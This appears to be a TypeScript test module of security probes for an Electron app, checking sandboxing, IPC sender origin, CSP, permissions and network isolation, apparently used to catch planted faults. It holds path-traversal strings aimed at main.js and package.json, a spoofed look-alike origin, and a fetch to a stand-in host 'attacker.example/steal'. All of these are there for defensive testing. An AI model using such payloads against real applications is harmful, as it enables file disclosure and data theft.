import type { ElectronApp } from '../support/electron-app.ts';

/** One thing that must hold of the running app, and what it says where it does not. */
export type Probe = { readonly name: string; readonly fault: (app: ElectronApp) => Promise<string | undefined> };

const ORIGIN = 'app://bundle';
const PAGE = { url: `${ORIGIN}/`, origin: ORIGIN, parent: null };
const CHANNEL = 'footing:call';

type Reply = { readonly ok: boolean; readonly failure?: { readonly code: string } };
type Fetched = { readonly status: number; readonly headers: Record<string, string>; readonly text: string };

const unless = (holds: boolean, fault: string): string | undefined => (holds ? undefined : fault);

/** The outcome of a call, or the error with which it ended. */
async function outcome(work: Promise<unknown>): Promise<string> {
  try {
    const reply = (await work) as Reply;
    return reply.ok ? 'answered' : (reply.failure?.code ?? 'failed without a code');
  } catch (error) {
    return String(error);
  }
}

async function mustBe(expected: string, work: Promise<unknown>): Promise<string | undefined> {
  const found = await outcome(work);
  return unless(found === expected, `expected ${expected}, found ${found}`);
}

const callFrom = (app: ElectronApp, frame: unknown) => app.ask({ kind: 'invoke', frame, channel: CHANNEL, given: ['app.info', null] });

const PREFERENCES = {
  contextIsolation: true,
  sandbox: true,
  nodeIntegration: false,
  nodeIntegrationInWorker: false,
  nodeIntegrationInSubFrames: false,
  webviewTag: false,
  webSecurity: true,
} as const;

const FRAMES: readonly [string, unknown][] = [
  ['a frame inside the page', { url: `${ORIGIN}/`, origin: ORIGIN, parent: PAGE }],
  ['a frame that is gone', null],
];
const ORIGINS: readonly [string, unknown][] = [
  ['a site', { url: 'https://attacker.example/', origin: 'https://attacker.example', parent: null }],
  ['an origin that begins like ours', { url: 'app://bundle.attacker/', origin: 'app://bundle.attacker', parent: null }],
  ['a file', { url: 'file:///page.html', origin: 'file://', parent: null }],
];
const OUTSIDE = [
  '/../main/main.js',
  '/%2e%2e/main/main.js',
  '/..%2fmain/main.js',
  '/assets/../../main/main.js',
  '/..%5cmain%5cmain.js',
  '/../../package.json',
];

function refusesFrames(name: string, frames: readonly [string, unknown][]): Probe {
  return {
    name,
    fault: async (app) => {
      for (const [what, frame] of frames) {
        const fault = await mustBe('FOREIGN_SENDER', callFrom(app, frame));
        if (fault !== undefined) return `${what}: ${fault}`;
      }
      return undefined;
    },
  };
}

/** What must hold of Electron's main and preload. Each planted fault must fail one of these. */
export const PROBES: readonly Probe[] = [
  {
    name: 'the page has the sandbox, its own world and no Node',
    fault: async (app) => {
      const { preferences } = await app.recorded();
      const wrong = Object.entries(PREFERENCES).filter(([key, setting]) => preferences[key] !== setting);
      return unless(wrong.length === 0, wrong.map(([key]) => key).join(', '));
    },
  },
  {
    name: 'the preload gives the page its bridge, and nothing of Node',
    fault: async (app) => {
      const found = await app.evaluate(
        '[window.footing?.shell, typeof window.footing?.call, typeof window.require, typeof window.process].join()',
      );
      return unless(found === 'electron,function,undefined,undefined', String(found));
    },
  },
  { name: 'a call of the page is answered', fault: (app) => mustBe('answered', app.call('app.info', null)) },
  { name: 'a name that the contract does not have is refused', fault: (app) => mustBe('UNKNOWN_METHOD', app.call('app.destroy', null)) },
  {
    name: 'a name that the preload would not let through is refused by main as well',
    fault: (app) => mustBe('UNKNOWN_METHOD', app.ask({ kind: 'invoke', frame: PAGE, channel: CHANNEL, given: ['app.destroy', null] })),
  },
  refusesFrames('a call from a foreign frame is refused', FRAMES),
  refusesFrames('a call from a foreign origin is refused', ORIGINS),
  {
    name: 'nothing outside the bundle is served',
    fault: async (app) => {
      for (const path of OUTSIDE) {
        const { status, text } = (await app.ask({ kind: 'fetch', url: `${ORIGIN}${path}`, method: 'GET' })) as Fetched;
        if (status === 200 || text !== '') return `${path} gave ${String(status)} and ${String(text.length)} characters`;
      }
      return undefined;
    },
  },
  {
    name: 'the page comes with the policy',
    fault: async (app) => {
      const { status, headers } = (await app.ask({ kind: 'fetch', url: `${ORIGIN}/`, method: 'GET' })) as Fetched;
      const policy = headers['content-security-policy'] ?? '';
      return unless(status === 200 && policy.startsWith("default-src 'none'; script-src 'self'"), `${String(status)} ${policy}`);
    },
  },
  {
    name: 'no script runs that is not of the bundle',
    fault: async (app) => {
      await app.evaluate(
        `(() => { const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.body.append(script); })()`,
      );
      return unless((await app.evaluate('window.ran === true')) === false, 'an inline script ran');
    },
  },
  {
    name: 'the page may have the clipboard to write to, and nothing else',
    fault: async (app) => {
      const ask = async (name: string, origin: string) => JSON.stringify(await app.ask({ kind: 'permission', name, origin }));
      const none = '{"requested":false,"checked":false,"device":false}';
      const wrong: string[] = [];
      for (const name of ['media', 'geolocation', 'clipboard-read', 'openExternal'])
        if ((await ask(name, ORIGIN)) !== none) wrong.push(name);
      if ((await ask('clipboard-sanitized-write', 'https://attacker.example')) !== none) wrong.push('the clipboard for another origin');
      if ((await ask('clipboard-sanitized-write', ORIGIN)) !== '{"requested":true,"checked":true,"device":false}')
        wrong.push('the clipboard for our own');
      return unless(wrong.length === 0, wrong.join(', '));
    },
  },
  {
    name: 'the page leads nowhere and opens no window',
    fault: async (app) => {
      await app.evaluate(`(() => { window.open('https://attacker.example/'); location.href = 'https://attacker.example/'; })()`);
      await app.evaluate(`new Promise((later) => setTimeout(later, 200))`);
      const { address, faults, requests } = await app.recorded();
      const reached = requests.filter((url) => !url.startsWith(`${ORIGIN}/`) && !url.startsWith('https://attacker.example/'));
      return unless(address === `${ORIGIN}/` && faults.length === 0 && reached.length === 0, [address, ...faults, ...reached].join(', '));
    },
  },
  {
    name: 'the page reaches nothing over the network',
    fault: async (app) => {
      const found = await app.evaluate(`fetch('https://attacker.example/steal').then(() => 'reached', () => 'refused')`);
      const { switches, spellChecker } = await app.recorded();
      const isCut = switches.includes('host-resolver-rules=MAP * ~NOTFOUND') && !spellChecker;
      return unless(found === 'refused' && isCut, `${String(found)}, ${switches.join(' ')}`);
    },
  },
];

/** The names of the probes that fail, with what they say. */
export async function failingProbes(app: ElectronApp): Promise<string[]> {
  const failing: string[] = [];
  for (const { name, fault } of PROBES) {
    const found = await fault(app).catch((error: unknown) => String(error));
    if (found !== undefined) failing.push(`${name}: ${found}`);
  }
  return failing;
}
